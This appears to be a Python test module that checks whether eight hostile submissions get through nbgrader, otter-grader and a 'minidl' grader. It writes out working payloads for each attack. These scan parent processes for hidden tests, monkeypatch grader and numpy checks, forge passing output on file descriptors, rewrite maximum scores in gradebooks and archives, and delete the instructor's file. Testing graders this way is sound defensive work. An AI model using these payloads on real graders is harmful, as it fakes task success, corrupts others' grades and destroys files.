"""Eight attacks, each expressed for three graders, and whether each got through.

Whether it did is measured by its effect: points, a file that is gone, a text that is
shown, a command that comes to no end. A submission looks for its prey where it runs, in
the folders above, and in those that its own parents were started with.
"""

TOKEN = "hidden-7c31"  # stands in the hidden tests of the peers
SECRETS = {"minidl": "5eed" * 16}
POINTS = 5
TESTS = {  # of the peers, written as their users write them
    "whole": (POINTS, f"assert whole(21) == 42  # {TOKEN}"),
    "scaled": (
        POINTS,
        "import numpy as np\n"
        "np.testing.assert_allclose(scaled(np.array([0.5, 4])), [1, 8])",
    ),
}
HONEST = "def whole(n):\n    return n + n\n\ndef scaled(x):\n    return x + x"
WRONG = "def whole(n):\n    return 0\n\ndef scaled(x):\n    return x"
LOOK = """
import os
from pathlib import Path


def places():
    found = [Path.cwd(), *list(Path.cwd().parents)[:3]]
    pid = os.getppid()
    while pid > 1:
        words = open(f"/proc/{pid}/cmdline").read().split("\\0")
        found += [Path(word).parent for word in words if word.startswith("/")]
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    return found


def files(*names):
    try:
        folders = places()
    except OSError:
        folders = [Path.cwd(), *Path.cwd().parents]
    for place in folders:
        for name in names:
            for pattern in (name, f"*/{name}"):
                try:
                    yield from place.glob(pattern)
                except OSError:
                    pass
"""
READ = (
    LOOK
    + """
def told(path):
    try:
        return SECRET in path.read_text()
    except (OSError, ValueError):
        return False


if any(map(told, files("*.ipynb", "tests/*.py", "seed", "*.db"))):
    whole = lambda n: 2 * n
    scaled = lambda x: 2 * x
"""
)
DELETE = LOOK + "\nfor path in list(files('instructor.txt')):\n    path.unlink()\n"
OWN_SCORE = {
    "nbgrader 0.9.6": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass"])
""",
    "otter-grader 7.0.0": """
import otter.test_files.ok_test
otter.test_files.ok_test.run_doctest = lambda *words: (True, "")
""",
    "minidl": """
import os

def whole(n):
    for fd in range(64):
        try:
            os.write(fd, b'{"result": true}\\n{"passed": true}\\n{"done": true}\\n')
        except OSError:
            pass
""",
}
MAXIMUM = {
    "nbgrader 0.9.6": LOOK
    + """
import sqlite3
for path in set(files("gradebook.db")):
    with sqlite3.connect(path, timeout=1) as book:
        book.execute("update grade_cells set max_score = 1000")
""",
    "otter-grader 7.0.0": LOOK
    + """
import zipfile
for path in set(files("autograder.zip")):
    with zipfile.ZipFile(path) as archive:
        old = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in old.items():
            archive.writestr(name, text.replace(b"'points': 5", b"'points': 1000"))
""",
    "minidl": LOOK
    + """
import sys
for path in set(files("lab91_mini.py")):
    path.write_text(path.read_text().replace("points=5", "points=1000"))
for module in list(sys.modules.values()):
    for part in getattr(module, "PARTS", []):
        object.__setattr__(part, "points", 1000)
""",
}
EQUAL = """
class Equal:
    __eq__ = lambda self, other: True

def whole(n):
    return Equal()
"""
PATCHED = """
import numpy as np
for name in ("assert_allclose", "assert_array_equal", "assert_equal"):
    setattr(np.testing, name, lambda *words, **options: None)
np.isclose = np.allclose = lambda *words, **options: np.bool_(True)
"""
LOOP = "def whole(n):\n    while True:\n        pass"
ATTACKS = {  # what is tried: (the source, for all or by grader; the effect)
    "reads the hidden tests": (READ, "points"),
    "sets its own score": (OWN_SCORE, "points"),
    "changes the maximum of the class": (MAXIMUM, "maximum"),
    "deletes the instructor's file": (DELETE, "deleted"),
    "loops for ever": (LOOP, "endless"),
    "returns what equals everything": (EQUAL, "points"),
    "patches numpy.testing": (PATCHED, "points"),
    "is shown a hidden test in its feedback": ("", "shown"),
}


def source_for(attack, grader):
    source, _ = ATTACKS[attack]
    source = source if isinstance(source, str) else source[grader.name]
    return source.replace("SECRET", repr(SECRETS.get(grader.name, TOKEN)))


def got_through(attack, grader, hidden, seconds):
    """Whether an attack succeeds with a fresh grader. The attacker comes first, and an
    honest student after. `hidden` are texts that nobody may be shown."""
    evil = [WRONG, source_for(attack, grader)]
    ended = grader.grade({"a-evil": evil, "b-honest": [HONEST]}, seconds)
    effect = ATTACKS[attack][1]
    if effect == "endless":
        return not ended
    points = grader.points()
    if points.get("b-honest", (0, 0))[0] < 2 * POINTS and effect != "maximum":
        raise RuntimeError(f"{grader.name} did not grade the honest student: {points}")
    return {
        "points": lambda: points.get("a-evil", (0, 0))[0] > 0,
        "maximum": lambda: points["b-honest"][1] != 2 * POINTS,
        "deleted": lambda: not (grader.folder / "instructor.txt").exists(),
        "shown": lambda: any(text in grader.feedback("a-evil") for text in hidden),
    }[effect]()
